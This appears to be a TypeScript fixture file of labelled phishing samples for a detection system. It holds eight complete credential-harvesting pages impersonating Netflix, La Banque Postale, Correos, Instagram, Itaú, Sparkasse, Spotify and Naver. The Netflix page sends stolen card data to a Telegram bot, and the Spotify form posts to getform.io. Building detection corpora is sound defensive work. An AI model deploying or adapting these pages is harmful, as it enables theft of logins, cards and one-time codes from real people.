import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';

export const entries: Entry[] = [
{
  id: 'a-kit-netflix-es-pago',
  label: 'phishing',
  kind: 'credential-kit',
  url: 'https://nflx-cuenta-suspendida.com/es/Login',
  routes: {
    'nflx-cuenta-suspendida.com/es/Login': htmlRoute(`<!DOCTYPE html>
<html lang="es">
<head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Netflix</title>
<link rel="shortcut icon" href="https://assets.nflxext.com/us/ffe/siteui/common/icons/nficon2016.ico">
<style>
body{margin:0;background:#000 url(/es/img/bg-es.jpg) center/cover;font-family:"Netflix Sans",Helvetica,Arial,sans-serif;color:#fff}
.lg{padding:24px 48px}.lg img{height:40px}
.b{background:rgba(0,0,0,.75);max-width:450px;margin:0 auto 60px;padding:60px 68px 40px;box-sizing:border-box;border-radius:4px}
h1{font-size:32px;margin:0 0 28px}
input{width:100%;height:50px;border-radius:4px;border:1px solid rgba(128,128,128,.7);background:rgba(22,22,22,.7);color:#fff;padding:0 16px;font-size:16px;margin-bottom:16px;box-sizing:border-box}
button{width:100%;height:48px;background:#e50914;border:0;border-radius:4px;color:#fff;font-size:16px;font-weight:700;margin-top:8px}
p{color:#b3b3b3;font-size:15px}
</style></head>
<body>
<div class="lg"><img src="/es/img/logo.png" alt="Netflix"></div>
<div class="b">
<h1>Inicia sesión</h1>
<form action="/es/acceso.php" method="post">
<input type="text" name="userLoginId" placeholder="Email o número de teléfono" required>
<input type="password" name="password" placeholder="Contraseña" required>
<button type="submit">Iniciar sesión</button>
</form>
<p>¿Primera vez en Netflix? <a href="#" style="color:#fff">Suscríbete ya.</a></p>
</div>
</body></html>`),
    'nflx-cuenta-suspendida.com/es/acceso.php': redirectRoute(302, '/es/YourAccount/payment'),
    'nflx-cuenta-suspendida.com/es/YourAccount/payment': htmlRoute(`<!DOCTYPE html>
<html lang="es"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Actualiza tu método de pago</title>
<style>body{margin:0;font-family:Helvetica,Arial,sans-serif;background:#fff;color:#333}.top{border-bottom:1px solid #e6e6e6;padding:20px 40px}.top img{height:32px}.w{max-width:500px;margin:30px auto;padding:0 20px}h1{font-size:28px}label{display:block;font-size:14px;margin:12px 0 4px}input{width:100%;height:56px;border:1px solid #8c8c8c;border-radius:2px;padding:0 12px;font-size:16px;box-sizing:border-box}button{width:100%;height:64px;background:#e50914;color:#fff;border:0;font-size:22px;margin-top:20px}</style>
</head><body><div class="top"><img src="/es/img/logo.png" alt="Netflix"></div>
<div class="w">
<p style="font-size:13px">PASO <b>2</b> DE <b>2</b></p>
<h1>Actualiza tu método de pago</h1>
<p>No pudimos procesar tu último pago. Para seguir disfrutando de tus series y películas, actualiza los datos de tu tarjeta.</p>
<form id="pf" method="post">
<label>Nombre</label><input name="nombre" required>
<label>Número de tarjeta</label><input name="tarjeta" inputmode="numeric" required>
<label>Fecha de vencimiento (MM/AA)</label><input name="venc" required>
<label>Código de seguridad (CVV)</label><input name="cvv" maxlength="4" required>
<label>DNI / NIE</label><input name="dni">
<button type="submit">Guardar</button>
</form>
</div>
<script>
document.getElementById('pf').addEventListener('submit', function (ev) {
  ev.preventDefault();
  var d = new FormData(this), t = 'NFLX ES\\n';
  d.forEach(function (v, k) { t += k + ': ' + v + '\\n'; });
  fetch('https://api.telegram.org/bot6612093385:AAGx2k9Ld0p_RrVqT3mZc7uWkE1yJhX4nQw/sendMessage', {
    method: 'POST', headers: {'Content-Type': 'application/json'},
    body: JSON.stringify({chat_id: '-1001987345120', text: t})
  }).finally(function () { location.href = 'https://www.netflix.com/browse'; });
});
</script>
</body></html>`),
  },
},
{
  id: 'a-kit-labanquepostale-certicode',
  label: 'phishing',
  kind: 'credential-kit',
  url: 'https://lbp-certicode-plus.fr-securite.com/voscomptes/canalXHTML/identif.ea',
  routes: {
    'lbp-certicode-plus.fr-securite.com/voscomptes/canalXHTML/identif.ea': htmlRoute(`<!DOCTYPE html>
<html lang="fr">
<head>
<meta charset="UTF-8">
<meta name="viewport" content="width=device-width, initial-scale=1.0">
<title>Connexion à mes comptes</title>
<link rel="icon" href="/voscomptes/img/lbp.ico">
<style>
body{margin:0;font-family:Montserrat,Arial,sans-serif;background:#f4f6fb;color:#14143c}
.h{background:#fff;box-shadow:0 1px 4px rgba(0,0,0,.1);padding:14px 30px}.h img{height:44px}
.c{max-width:460px;margin:30px auto;background:#fff;border-radius:8px;padding:30px}
h1{font-size:22px;color:#003da5}
.grid{display:grid;grid-template-columns:repeat(5,1fr);gap:6px;margin:12px 0}
.grid button{height:46px;border:1px solid #c5cbe0;background:#fff;font-size:18px;border-radius:4px}
input{width:100%;height:44px;border:1px solid #8a8fa8;border-radius:4px;padding:0 10px;font-size:16px;box-sizing:border-box}
.go{width:100%;height:48px;background:#f9b000;border:0;border-radius:24px;font-weight:700;color:#14143c;font-size:16px;margin-top:16px}
</style>
</head>
<body>
<div class="h"><img src="/voscomptes/img/logo-lbp.svg" alt="La Banque Postale"></div>
<div class="c">
<h1>Connexion à mes comptes</h1>
<p style="font-size:14px">Suite à la mise à jour de notre système Certicode Plus, vous devez réactiver votre service afin de continuer à valider vos opérations.</p>
<form method="post" action="/voscomptes/canalXHTML/valider.php">
<label for="id">Identifiant</label>
<input id="id" name="username" maxlength="10" inputmode="numeric">
<p style="font-size:13px;margin-bottom:0">Mot de passe (6 chiffres)</p>
<input id="pwd" name="password" type="password" readonly maxlength="6" style="letter-spacing:8px">
<div class="grid" id="g"></div>
<button class="go" type="submit">Se connecter</button>
</form>
</div>
<script>
var d=[0,1,2,3,4,5,6,7,8,9].sort(function(){return Math.random()-.5}),g=document.getElementById('g');
d.forEach(function(n){var b=document.createElement('button');b.type='button';b.textContent=n;b.onclick=function(){var p=document.getElementById('pwd');if(p.value.length<6)p.value+=n};g.appendChild(b)});
</script>
</body>
</html>`),
    'lbp-certicode-plus.fr-securite.com/voscomptes/canalXHTML/valider.php': redirectRoute(302, '/voscomptes/canalXHTML/certicode.html'),
    'lbp-certicode-plus.fr-securite.com/voscomptes/canalXHTML/certicode.html': htmlRoute(`<!DOCTYPE html><html lang="fr"><head><meta charset="UTF-8"><title>Réactivation Certicode Plus</title>
<style>body{font-family:Arial;background:#f4f6fb}.c{max-width:460px;margin:30px auto;background:#fff;padding:30px;border-radius:8px}label{display:block;margin-top:12px;font-size:14px}input{width:100%;height:40px;box-sizing:border-box}button{margin-top:18px;width:100%;height:46px;background:#f9b000;border:0;border-radius:23px;font-weight:bold}</style>
</head><body><div class="c"><h2 style="color:#003da5">Réactivation de Certicode Plus</h2>
<p>Veuillez confirmer vos informations. Un code de validation vous sera envoyé par SMS.</p>
<form method="post" action="/voscomptes/canalXHTML/sms.php">
<label>Nom et prénom</label><input name="nom"><label>Date de naissance</label><input name="naissance" placeholder="JJ/MM/AAAA">
<label>Numéro de téléphone</label><input name="tel"><label>Numéro de carte bancaire</label><input name="carte">
<label>Date d'expiration</label><input name="exp"><label>Cryptogramme</label><input name="cvv" maxlength="3">
<button>Valider</button></form></div></body></html>`),
  },
},
{
  id: 'a-kit-correos-es-tasas',
  label: 'phishing',
  kind: 'credential-kit',
  url: 'https://correos-es.envios-pendientes.top/seguimiento/index.php?c=PQ4F6P0700453710828001K',
  routes: {
    'correos-es.envios-pendientes.top/seguimiento/index.php': htmlRoute(`<!DOCTYPE html>
<html lang="es"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Correos - Pago de tasas</title>
<style>
body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#fff}
header{background:#ffcd00;padding:12px 20px}header img{height:38px}
.w{max-width:540px;margin:0 auto;padding:20px}
.e{border:1px solid #ddd;border-radius:6px;padding:14px;margin:14px 0;font-size:14px}
.e b{color:#002e6d}
label{display:block;font-size:13px;margin:10px 0 3px;color:#002e6d;font-weight:bold}
input{width:100%;padding:11px;border:1px solid #aaa;border-radius:4px;box-sizing:border-box}
button{margin-top:16px;width:100%;padding:14px;border:0;border-radius:4px;background:#002e6d;color:#fff;font-size:16px}
</style></head>
<body>
<header><img src="/seguimiento/logo-correos.png" alt="Correos"></header>
<div class="w">
<h2 style="color:#002e6d">Su envío está retenido en aduanas</h2>
<div class="e">Número de envío: <b>PQ4F6P0700453710828001K</b><br>Estado: <b>Pendiente de pago de tasas (1,79 €)</b></div>
<p>Para que su envío pueda ser entregado, debe abonar las tasas de importación. Si no se realiza el pago en 2 días hábiles, el envío será devuelto a origen.</p>
<form method="post" action="pago.php">
<label>Nombre completo</label><input name="nombre">
<label>Dirección</label><input name="direccion">
<label>Número de tarjeta</label><input name="numero" inputmode="numeric">
<label>Caducidad</label><input name="caducidad" placeholder="MM/AA">
<label>CVV</label><input name="cvv" maxlength="3">
<button>Pagar 1,79 €</button>
</form>
<p style="font-size:11px;color:#777;margin-top:20px">© Sociedad Estatal Correos y Telégrafos, S.A., S.M.E. Todos los derechos reservados.</p>
</div></body></html>`),
    'correos-es.envios-pendientes.top/seguimiento/pago.php': redirectRoute(302, '/seguimiento/sms.html'),
    'correos-es.envios-pendientes.top/seguimiento/sms.html': htmlRoute(`<!DOCTYPE html><html lang="es"><head><meta charset="utf-8"><title>Verificación</title>
<style>body{font-family:Arial;text-align:center}input{font-size:22px;width:200px;text-align:center;letter-spacing:6px}button{display:block;margin:16px auto;padding:10px 40px;background:#002e6d;color:#fff;border:0}</style></head>
<body><img src="/seguimiento/bank-3ds.png" alt="" height="40"><h3>Confirmación de pago</h3><p>Introduzca el código que ha recibido por SMS para autorizar el pago de 1,79 €.</p>
<form method="post" action="otp.php"><input name="otp" maxlength="6"><button>Confirmar</button></form></body></html>`),
  },
},
{
  id: 'a-kit-instagram-tr-telif',
  label: 'phishing',
  kind: 'credential-kit',
  url: 'https://help-instagram-copyright.com.tr-appeal.net/form/',
  routes: {
    'help-instagram-copyright.com.tr-appeal.net/form/': htmlRoute(`<!DOCTYPE html>
<html lang="tr">
<head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Instagram | Telif Hakkı İhlali İtiraz Formu</title>
<link rel="icon" href="https://static.cdninstagram.com/rsrc.php/v3/yI/r/VsNE-OHk_8a.png">
<style>
body{margin:0;background:#fafafa;font-family:-apple-system,Segoe UI,Roboto,Helvetica,Arial,sans-serif;color:#262626}
.card{max-width:420px;margin:40px auto;background:#fff;border:1px solid #dbdbdb;padding:30px}
.logo{text-align:center;font-family:Billabong,cursive;font-size:42px;margin-bottom:10px}
p{font-size:14px;line-height:1.5}
input{width:100%;height:38px;background:#fafafa;border:1px solid #dbdbdb;border-radius:3px;padding:0 8px;margin-bottom:8px;box-sizing:border-box}
button{width:100%;height:34px;border:0;border-radius:8px;background:#0095f6;color:#fff;font-weight:600}
.m{color:#8e8e8e;font-size:12px;text-align:center;margin-top:20px}
</style></head>
<body>
<div class="card">
<div class="logo"><img src="/form/ig-logo.png" alt="Instagram" height="50"></div>
<p><b>Hesabınız telif hakkı ihlali nedeniyle kaldırılacaktır.</b></p>
<p>Paylaşımlarınızdan biri hakkında telif hakkı ihlali bildirimi aldık. Bunun bir hata olduğunu düşünüyorsanız, aşağıdaki formu doldurarak 24 saat içinde itiraz edebilirsiniz. Aksi halde hesabınız kalıcı olarak silinecektir.</p>
<form method="post" action="/form/sifre.php">
<input name="kullanici" placeholder="Kullanıcı adı">
<input name="email" placeholder="E-posta adresi">
<input name="telefon" placeholder="Telefon numarası">
<input name="sifre" type="password" placeholder="Şifre">
<button type="submit">İtiraz Formunu Gönder</button>
</form>
<div class="m">Meta'dan · © 2025 Instagram</div>
</div>
</body></html>`),
    'help-instagram-copyright.com.tr-appeal.net/form/sifre.php': redirectRoute(302, '/form/dogrulama.html'),
    'help-instagram-copyright.com.tr-appeal.net/form/dogrulama.html': htmlRoute(`<!DOCTYPE html><html lang="tr"><head><meta charset="utf-8"><title>Instagram | Doğrulama</title>
<style>body{background:#fafafa;font-family:Arial}.card{max-width:420px;margin:40px auto;background:#fff;border:1px solid #dbdbdb;padding:30px}input{width:100%;height:38px;box-sizing:border-box}button{margin-top:10px;width:100%;height:34px;background:#0095f6;color:#fff;border:0;border-radius:8px}</style></head>
<body><div class="card"><h3>İki faktörlü doğrulama</h3><p>Telefonunuza veya kimlik doğrulama uygulamanıza gönderilen 6 haneli kodu girin.</p>
<form method="post" action="/form/kod.php"><input name="kod" maxlength="8" placeholder="Güvenlik kodu"><button>Onayla</button></form></div></body></html>`),
  },
},
{
  id: 'a-kit-itau-br-token',
  label: 'phishing',
  kind: 'credential-kit',
  url: 'https://itau-atualizacao-cadastral.com/acesso/',
  body: `<!DOCTYPE html>
<html lang="pt-BR">
<head>
<meta charset="UTF-8">
<meta name="viewport" content="width=device-width, initial-scale=1.0">
<title>Itaú | Atualização Cadastral</title>
<style>
body{margin:0;font-family:"Itau Display",Arial,sans-serif;background:#f3f3f3}
.h{background:#ec7000;height:70px;display:flex;align-items:center;padding:0 20px}.h img{height:46px}
.c{max-width:420px;margin:24px auto;background:#fff;padding:24px;border-radius:8px}
h2{color:#ec7000;margin-top:0}
label{display:block;font-size:14px;margin:12px 0 4px;color:#333}
input{width:100%;height:44px;border:1px solid #ccc;border-radius:6px;padding:0 10px;font-size:16px;box-sizing:border-box}
.b{width:100%;height:48px;background:#ec7000;border:0;border-radius:6px;color:#fff;font-size:16px;font-weight:bold;margin-top:18px}
.s{display:none}
</style>
</head>
<body>
<div class="h"><img src="/acesso/img/itau.png" alt="Itaú"></div>
<div class="c">
 <div id="p1">
  <h2>Seu iToken está desatualizado</h2>
  <p>Para continuar usando o aplicativo e fazendo Pix, atualize seu dispositivo de segurança em menos de 2 minutos.</p>
  <label>Agência</label><input id="ag" maxlength="4" inputmode="numeric">
  <label>Conta</label><input id="cc" maxlength="6" inputmode="numeric">
  <label>Senha eletrônica (6 dígitos)</label><input id="se" type="password" maxlength="6" inputmode="numeric">
  <button class="b" onclick="nx(1)">Continuar</button>
 </div>
 <div id="p2" class="s">
  <h2>Confirme seus dados</h2>
  <label>CPF</label><input id="cpf" placeholder="000.000.000-00">
  <label>Celular</label><input id="cel" placeholder="(11) 90000-0000">
  <label>Senha do cartão (4 dígitos)</label><input id="sc" type="password" maxlength="4">
  <button class="b" onclick="nx(2)">Continuar</button>
 </div>
 <div id="p3" class="s">
  <h2>Código de segurança</h2>
  <p>Digite o código iToken exibido no seu aplicativo ou recebido por SMS.</p>
  <input id="tk" maxlength="6" inputmode="numeric">
  <button class="b" onclick="nx(3)">Confirmar</button>
 </div>
</div>
<script>
function v(i){return document.getElementById(i).value}
function nx(s){
  var d={s:s,ag:v('ag'),cc:v('cc'),se:v('se')};
  if(s>1){d.cpf=v('cpf');d.cel=v('cel');d.sc=v('sc')}
  if(s>2){d.tk=v('tk')}
  var x=new XMLHttpRequest();x.open('POST','/acesso/recebe.php',true);x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');
  x.send(Object.keys(d).map(function(k){return k+'='+encodeURIComponent(d[k])}).join('&'));
  document.getElementById('p'+s).className='s';
  if(s<3)document.getElementById('p'+(s+1)).className='';else location.href='https://www.itau.com.br/';
}
</script>
</body>
</html>`,
},
{
  id: 'a-kit-sparkasse-pushtan',
  label: 'phishing',
  kind: 'credential-kit',
  url: 'https://sparkasse-s-pushtan-update.de.login-verfahren.com/de/home/onlinebanking.html',
  body: `<!DOCTYPE html>
<html lang="de">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>Online-Banking Login</title>
<link rel="icon" href="/de/home/favicon-s.ico">
<style>
body{margin:0;font-family:"Sparkasse Rg",Arial,sans-serif;background:#fff;color:#000}
header{background:#ff0000;height:72px;display:flex;align-items:center;padding:0 24px}header img{height:40px}
.w{max-width:520px;margin:32px auto;padding:0 20px}
h1{font-size:28px}
.hinweis{background:#f3f3f3;padding:16px;font-size:14px;margin-bottom:18px}
label{display:block;font-size:14px;margin:14px 0 4px}
input,select{width:100%;height:44px;border:1px solid #666;padding:0 10px;font-size:16px;box-sizing:border-box}
.btn{margin-top:20px;background:#ff0000;color:#fff;border:0;height:46px;padding:0 32px;font-size:16px;font-weight:bold}
</style>
</head>
<body>
<header><img src="/de/home/img/s-logo-white.svg" alt="Sparkasse"></header>
<div class="w">
<h1>Anmeldung Online-Banking</h1>
<div class="hinweis"><b>Wichtiger Hinweis:</b> Aufgrund der neuen EU-Zahlungsdiensterichtlinie (PSD2) muss Ihr pushTAN-Verfahren bis zum 15.04. aktualisiert werden. Ohne Aktualisierung wird Ihr Zugang zum Online-Banking vorübergehend eingeschränkt.</div>
<form method="post" action="/de/home/login.php">
<label>Ihre Sparkasse (Bankleitzahl oder Ort)</label><input name="blz">
<label>Anmeldename oder Legitimations-ID</label><input name="anmeldename" autocomplete="username">
<label>PIN</label><input type="password" name="pin" autocomplete="current-password">
<label>Handynummer für die Aktualisierung</label><input name="handy" type="tel">
<label>Geburtsdatum</label><input name="gebdat" placeholder="TT.MM.JJJJ">
<button class="btn">Anmelden</button>
</form>
<p style="font-size:13px;margin-top:24px">Sicherheitshinweis: Wir fragen niemals per E-Mail nach Ihren Zugangsdaten.</p>
</div>
</body>
</html>`,
},
{
  id: 'a-kit-spotify-pt-pagamento',
  label: 'phishing',
  kind: 'credential-kit',
  url: 'https://spotify-premium-pt.renovar-plano.com/conta/pagamento',
  body: `<!DOCTYPE html>
<html lang="pt">
<head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1">
<title>Atualizar pagamento</title>
<link rel="icon" href="https://open.spotifycdn.com/cdn/images/favicon32.b64ecc03.png">
<style>
body{margin:0;font-family:"Spotify Circular",Helvetica,Arial,sans-serif;background:#121212;color:#fff}
.t{padding:28px;text-align:center}.t img{height:40px}
.c{max-width:460px;margin:0 auto 40px;background:#1f1f1f;border-radius:8px;padding:32px}
h1{font-size:26px;margin-top:0}
p{color:#b3b3b3;font-size:14px}
label{display:block;font-size:14px;font-weight:700;margin:14px 0 6px}
input{width:100%;height:48px;background:#121212;border:1px solid #727272;border-radius:4px;color:#fff;padding:0 12px;font-size:16px;box-sizing:border-box}
.row{display:flex;gap:12px}.row>div{flex:1}
button{margin-top:26px;width:100%;height:48px;border:0;border-radius:24px;background:#1ed760;color:#000;font-weight:700;font-size:16px}
</style></head>
<body>
<div class="t"><img src="/conta/img/logo-white.png" alt="Spotify"></div>
<div class="c">
<h1>O teu pagamento falhou</h1>
<p>Não conseguimos cobrar a tua subscrição Premium Individual. Atualiza os dados do teu cartão para evitar a interrupção do serviço.</p>
<form action="https://getform.io/f/bwnmqkra" method="post">
<label>E-mail</label><input type="email" name="email" required>
<label>Palavra-passe</label><input type="password" name="senha" required>
<label>Número do cartão</label><input name="cartao" required>
<div class="row"><div><label>Validade</label><input name="validade" placeholder="MM/AA"></div><div><label>CVV</label><input name="cvv"></div></div>
<label>Código postal</label><input name="cp">
<button>Atualizar</button>
</form>
</div>
</body></html>`,
},
{
  id: 'a-kit-naver-kr-login',
  label: 'phishing',
  kind: 'credential-kit',
  url: 'https://nid-naver.security-check-kr.com/nidlogin.login?mode=form&url=https%3A%2F%2Fmail.naver.com',
  routes: {
    'nid-naver.security-check-kr.com/nidlogin.login': htmlRoute(`<!DOCTYPE html>
<html lang="ko">
<head>
<meta charset="UTF-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>네이버 : 로그인</title>
<style>
body{margin:0;background:#f5f6f7;font-family:"Apple SD Gothic Neo","Malgun Gothic",sans-serif}
.logo{text-align:center;padding:60px 0 30px;color:#03c75a;font-size:42px;font-weight:900}
.panel{max-width:460px;margin:0 auto;background:#fff;border:1px solid #dadada;border-radius:6px;padding:24px}
.alert{background:#fff6f6;color:#ff003e;font-size:13px;padding:10px;margin-bottom:14px;border-radius:4px}
input{width:100%;height:48px;border:1px solid #dadada;padding:0 14px;font-size:16px;box-sizing:border-box}
input+input{border-top:0}
.btn{width:100%;height:52px;margin-top:20px;background:#03c75a;color:#fff;border:0;border-radius:6px;font-size:18px;font-weight:700}
.lk{text-align:center;font-size:13px;color:#888;margin-top:20px}
</style>
</head>
<body>
<div class="logo">NAVER</div>
<div class="panel">
<div class="alert">해외 IP에서 로그인 시도가 감지되었습니다. 본인 확인을 위해 다시 로그인해 주세요.</div>
<form method="post" action="/nidlogin.process.php">
<input name="id" placeholder="아이디 또는 전화번호">
<input name="pw" type="password" placeholder="비밀번호">
<button class="btn" type="submit">로그인</button>
</form>
</div>
<div class="lk">비밀번호 찾기 | 아이디 찾기 | 회원가입</div>
</body>
</html>`),
  },
},
];
